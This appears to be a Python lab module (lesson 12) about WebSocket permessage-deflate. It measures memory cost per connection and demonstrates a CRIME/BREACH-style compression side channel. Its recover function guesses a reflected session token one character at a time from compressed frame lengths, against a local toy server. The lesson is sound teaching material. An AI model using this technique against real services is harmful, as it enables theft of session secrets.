"""What ``permessage-deflate`` costs and what it leaks, measured on live sockets (lesson 12).

**Memory.** ``DeflateServer(compression)`` runs a ``websockets`` echo server in a process of its
own (tethered: it dies with the kernel), with the library's default compression (``"deflate"``)
or none (``None``). ``memory_per_connection(compression, count)`` opens ``count`` clients that
each exchange one message, and divides the growth of the server's resident memory by
``count``: the bytes one more connection costs that server.

**Lengths.** ``reflect_app()`` is an aiohttp WebSocket (compression negotiated) that answers
every message with one JSON message holding a secret beside the text it was sent, as a page
that reflects a search box beside a session token does. ``WireObserver`` negotiates
``permessage-deflate`` by hand on a raw socket and reads only frame headers: the compressed
length of each answer, all a network observer of a TLS connection learns. ``recover``
guesses the secret one character at a time from those lengths alone (the CRIME and BREACH
family; lesson 07 showed the same on zlib with no socket).
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import json
import os
import secrets
import socket
import string
import sys

from aiohttp import WSMsgType, web

from lab.frames import read_head, recv_exactly, upgrade_request
from servers.rfc6455 import TEXT, encode_frame
from servers.rfc6455.codec import header_size, parse_header
from servers.runtime import accepts_connections, free_port
from servers.tether import Service
from servers.timing import scaled

RSV1 = 0x40
"""RSV1 in a frame's first byte: RFC 7692 §6's "Per-Message Compressed" bit."""
ALPHABET = string.ascii_lowercase + string.digits
SECRET_LENGTH = 8
EXTENSION = "permessage-deflate; server_no_context_takeover; client_no_context_takeover"
"""The offer ``WireObserver`` makes: each answer compressed on its own (RFC 7692 §7.1.1)."""


class DeflateServer(Service):
    """A ``websockets`` echo server in its own process, ``compression`` ``"deflate"`` or
    ``None``."""

    def __init__(self, compression: str | None, name: str | None = None) -> None:
        super().__init__(free_port(), name or f"deflate-{compression}")
        self.compression = compression

    @property
    def url(self) -> str:
        return f"ws://127.0.0.1:{self.port}"

    def start(self) -> DeflateServer:
        command = [sys.executable, "-m", "lab.deflate_leak", "--port", str(self.port),
                   "--compression", self.compression or "none"]
        return self._launch(command, lambda: accepts_connections(self.port),
                            what="the websockets server", timeout=scaled(15))

    def rss(self) -> int:
        """The server process's resident memory, in bytes."""
        import psutil

        watchdog = psutil.Process(self._process.pid)
        return sum(child.memory_info().rss for child in watchdog.children(recursive=True))


async def _open(url: str, count: int, compression: str | None, message: str) -> list:
    from websockets.asyncio.client import connect

    clients = []
    for _ in range(count):
        ws = await connect(url, compression=compression)
        await ws.send(message)
        await ws.recv()
        clients.append(ws)
    return clients


async def memory_per_connection(compression: str | None, count: int) -> float:
    """Bytes of server memory per connection, from ``count`` connections that each sent and
    received one compressible 4 KB message (after 20 warm-up connections, not counted)."""
    message = json.dumps([{"id": n, "text": "a post like the others"} for n in range(120)])
    with DeflateServer(compression) as server:
        warm = await _open(server.url, 20, compression, message)
        before = server.rss()
        clients = await _open(server.url, count, compression, message)
        after = server.rss()
        for ws in warm + clients:
            await ws.close()
    return (after - before) / count


def reflect_app(secret: str) -> web.Application:
    """``GET /`` a WebSocket (``permessage-deflate`` when offered): each text message ``m`` is
    answered ``{"session": "token=SECRET", "you searched for": m}``."""

    async def reflect(request: web.Request) -> web.WebSocketResponse:
        ws = web.WebSocketResponse(compress=True)
        await ws.prepare(request)
        async for message in ws:
            if message.type == WSMsgType.TEXT:
                await ws.send_json({"session": f"token={secret}", "you searched for": message.data})
        return ws

    app = web.Application()
    app.router.add_get("/", reflect)
    return app


def toy_secret() -> str:
    return "".join(secrets.choice(ALPHABET) for _ in range(SECRET_LENGTH))


class WireObserver:
    """A raw client that negotiates ``permessage-deflate`` and reads answers' wire lengths."""

    def __init__(self, host: str, port: int, *, compress: bool = True) -> None:
        self.sock = socket.create_connection((host, port), timeout=scaled(10))
        key = base64.b64encode(os.urandom(16)).decode()
        request = upgrade_request(host, port, key)
        if compress:
            request = request.replace("\r\n\r\n", f"\r\nSec-WebSocket-Extensions: {EXTENSION}"
                                      "\r\n\r\n", 1)
        self.sock.sendall(request.encode())
        head = read_head(self.sock).decode("latin-1")
        if " 101 " not in head.split("\r\n")[0]:
            raise ConnectionError(head.split("\r\n")[0])
        self.compressed = "permessage-deflate" in head.lower()
        self.last_compressed = False

    def length(self, text: str) -> int:
        """Send ``text``; the payload length of the answer's frame as it crossed the wire."""
        self.sock.sendall(encode_frame(TEXT, text.encode(), mask=os.urandom(4)))
        head = recv_exactly(self.sock, 2)
        head += recv_exactly(self.sock, header_size(head[1]) - 2)
        self.last_compressed = bool(head[0] & RSV1)  # the "Per-Message Compressed" bit
        length = parse_header(bytes([head[0] & ~RSV1]) + head[1:]).length  # RSV1 read apart
        recv_exactly(self.sock, length)
        return length

    def close(self) -> None:
        self.sock.close()

    def __enter__(self) -> WireObserver:
        return self

    def __exit__(self, *exc_info: object) -> None:
        self.close()


def recover(observer: WireObserver, length: int = SECRET_LENGTH,
            record: list[dict[str, int]] | None = None) -> tuple[str, int]:
    """Guess ``length`` characters after ``token=``, each the one whose reflection made the
    shortest answer; ``(guess, positions where the shortest length was a tie)``. With
    ``record``, each position's lengths (character → bytes) are appended to it."""
    known, ties = "", 0
    for _ in range(length):
        sizes = {c: observer.length(f"token={known}{c}") for c in ALPHABET}
        if record is not None:
            record.append(sizes)
        shortest = min(sizes.values())
        best = [c for c, size in sizes.items() if size == shortest]
        ties += len(best) > 1
        known += best[0]
    return known, ties


async def _serve_echo(port: int, compression: str | None) -> None:
    from websockets.asyncio.server import serve

    async def echo(ws) -> None:
        async for message in ws:
            await ws.send(message)

    async with serve(echo, "127.0.0.1", port, compression=compression, max_size=None):
        await asyncio.Future()


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description="a websockets echo server (lesson 12)")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--compression", choices=["deflate", "none"], required=True)
    args = parser.parse_args(argv)
    asyncio.run(_serve_echo(args.port, None if args.compression == "none" else "deflate"))


if __name__ == "__main__":
    main()
